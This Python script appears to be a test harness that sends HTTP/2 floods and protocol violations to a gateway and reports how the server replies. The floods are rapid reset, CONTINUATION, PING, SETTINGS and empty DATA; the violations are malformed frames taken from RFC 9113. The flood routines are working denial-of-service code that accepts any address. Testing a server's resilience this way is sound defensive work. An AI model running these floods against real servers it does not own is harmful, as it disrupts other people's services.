"""HTTP/2 floods and protocol violations against a gateway, written frame by frame with
hyperframe (and raw bytes where hyperframe would refuse to build the frame).

    python3 h2_flood.py ADDR rapid-reset N      # HEADERS + RST_STREAM(CANCEL) x N
    python3 h2_flood.py ADDR accepted-reset N   # N streams, reset in tens once accepted
    python3 h2_flood.py ADDR continuation N     # one HEADERS, then N CONTINUATION frames
    python3 h2_flood.py ADDR ping N             # N PINGs
    python3 h2_flood.py ADDR settings N         # N empty SETTINGS
    python3 h2_flood.py ADDR empty-data N       # one POST stream, then N empty DATA frames
    python3 h2_flood.py ADDR violation CASE     # one RFC 9113 violation (see VIOLATIONS)

Prints one JSON line: what the server sent back (GOAWAY and its error code, how many
PING or SETTINGS acks, RST_STREAMs, HEADERS), whether the connection was closed, and how
many flood frames were written before the server stopped reading or closed. Every phase
is bounded in time.
"""

import json
import socket
import sys
import time

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)
from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


def request_block(enc, method="GET", path="/flood"):
    return enc.encode(
        [(":method", method), (":scheme", "http"), (":authority", "gw.test"), (":path", path)]
    )


def raw(ftype, flags, sid, payload=b""):
    """A frame as bytes: 24-bit length, type, flags, stream id, payload."""
    return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + sid.to_bytes(4, "big") + payload


DATA, HEADERS, SETTINGS, PING, WINDOW_UPDATE = 0x0, 0x1, 0x4, 0x6, 0x8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def violation(case, enc):
    """The bytes of one RFC 9113 violation, after the preface and SETTINGS."""
    get = request_block(enc)
    if case == "data-on-idle-stream":  # §5.1: connection error PROTOCOL_ERROR
        return raw(DATA, 0, 1, b"x")
    if case == "even-stream-id":  # §5.1.1: connection error PROTOCOL_ERROR
        return raw(HEADERS, END_HEADERS | END_STREAM, 2, get)
    if case == "bad-hpack":  # §4.3: connection error COMPRESSION_ERROR (index 127+ unknown)
        return raw(HEADERS, END_HEADERS | END_STREAM, 1, b"\xff\xff\xff\x0f")
    if case == "window-overflow":  # §6.9.1: connection error FLOW_CONTROL_ERROR
        inc = (0x7FFFFFFF).to_bytes(4, "big")
        return raw(WINDOW_UPDATE, 0, 0, inc) + raw(WINDOW_UPDATE, 0, 0, inc)
    if case == "settings-window-too-big":  # §6.5.2: connection error FLOW_CONTROL_ERROR
        return raw(SETTINGS, 0, 0, (0x4).to_bytes(2, "big") + (0x80000000).to_bytes(4, "big"))
    if case == "settings-ack-with-payload":  # §6.5: connection error FRAME_SIZE_ERROR
        return raw(SETTINGS, ACK, 0, b"\x00" * 6)
    if case == "ping-wrong-length":  # §6.7: connection error FRAME_SIZE_ERROR
        return raw(PING, 0, 0, b"\x00" * 7)
    if case == "zero-window-update-on-stream":  # §6.9: stream error PROTOCOL_ERROR
        return raw(HEADERS, END_HEADERS, 1, get) + raw(WINDOW_UPDATE, 0, 1, b"\x00" * 4)
    if case == "data-after-end-stream":  # §5.1 half-closed (remote): STREAM_CLOSED
        return raw(HEADERS, END_HEADERS | END_STREAM, 1, get) + raw(DATA, 0, 1, b"x")
    if case == "frame-too-large":  # §4.2: connection error FRAME_SIZE_ERROR
        return raw(HEADERS, END_HEADERS, 1, get) + raw(DATA, 0, 1, b"x" * 16385)
    raise SystemExit(f"unknown violation {case}")


def frames(data):
    """Splits bytes into (frames, rest)."""
    out = []
    while len(data) >= 9:
        frame, length = Frame.parse_frame_header(memoryview(data[:9]))
        if len(data) < 9 + length:
            break
        frame.parse_body(memoryview(data[9 : 9 + length]))
        out.append(frame)
        data = data[9 + length :]
    return out, data


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    kind, arg = sys.argv[2], sys.argv[3]
    n = int(arg) if arg.isdigit() else 0
    s = socket.create_connection((host, int(port)), timeout=5)
    s.sendall(PREFACE + SettingsFrame(0).serialize())
    enc = Encoder()
    written = 0
    closed = False
    started = time.monotonic()
    try:
        if kind == "rapid-reset":
            for i in range(n):
                sid = 1 + 2 * i
                h = HeadersFrame(sid, request_block(enc))
                h.flags.add("END_HEADERS")
                h.flags.add("END_STREAM")
                s.sendall(h.serialize() + RstStreamFrame(sid, CANCEL).serialize())
                written += 1
        elif kind == "accepted-reset":
            # Tens of streams opened, given 50 ms to be accepted (their upstream calls
            # started), then reset: past h2's pending-accept bound.
            for batch in range(0, n, 10):
                sids = [1 + 2 * i for i in range(batch, min(batch + 10, n))]
                for sid in sids:
                    h = HeadersFrame(sid, request_block(enc))
                    h.flags.add("END_HEADERS")
                    h.flags.add("END_STREAM")
                    s.sendall(h.serialize())
                time.sleep(0.05)
                s.sendall(b"".join(RstStreamFrame(sid, CANCEL).serialize() for sid in sids))
                written += len(sids)
        elif kind == "continuation":
            h = HeadersFrame(1, request_block(enc))
            s.sendall(h.serialize())
            block = enc.encode([("x-flood", "a" * 1000)])
            for _ in range(n):
                s.sendall(ContinuationFrame(1, block).serialize())
                written += 1
        elif kind == "ping":
            for i in range(n):
                s.sendall(PingFrame(0, i.to_bytes(8, "big")).serialize())
                written += 1
        elif kind == "settings":
            for _ in range(n):
                s.sendall(SettingsFrame(0).serialize())
                written += 1
        elif kind == "violation":
            s.sendall(violation(arg, enc))
            written = 1
        elif kind == "empty-data":
            h = HeadersFrame(1, request_block(enc, "POST"))
            h.flags.add("END_HEADERS")
            s.sendall(h.serialize())
            for _ in range(n):
                s.sendall(DataFrame(1, b"").serialize())
                written += 1
        else:
            raise SystemExit(f"unknown flood {kind}")
    except (BrokenPipeError, ConnectionResetError, socket.timeout):
        closed = True
    seen = {"goaway": None, "ping_acks": 0, "settings_acks": 0, "rst_stream": 0, "headers": 0}
    data = b""
    deadline = time.monotonic() + 5
    s.settimeout(0.5)
    while time.monotonic() < deadline:
        try:
            chunk = s.recv(65536)
        except socket.timeout:
            if seen["goaway"] is not None:
                break
            continue
        except ConnectionResetError:
            closed = True
            break
        if not chunk:
            closed = True
            break
        parsed, data = frames(data + chunk)
        for f in parsed:
            if isinstance(f, GoAwayFrame):
                seen["goaway"] = f.error_code
            elif isinstance(f, PingFrame) and "ACK" in f.flags:
                seen["ping_acks"] += 1
            elif isinstance(f, SettingsFrame) and "ACK" in f.flags:
                seen["settings_acks"] += 1
            elif isinstance(f, RstStreamFrame):
                seen["rst_stream"] += 1
                seen["rst_code"] = f.error_code
            elif isinstance(f, HeadersFrame):
                seen["headers"] += 1
    seen["closed"] = closed
    seen["written"] = written
    seen["seconds"] = round(time.monotonic() - started, 3)
    print(json.dumps(seen))


if __name__ == "__main__":
    main()
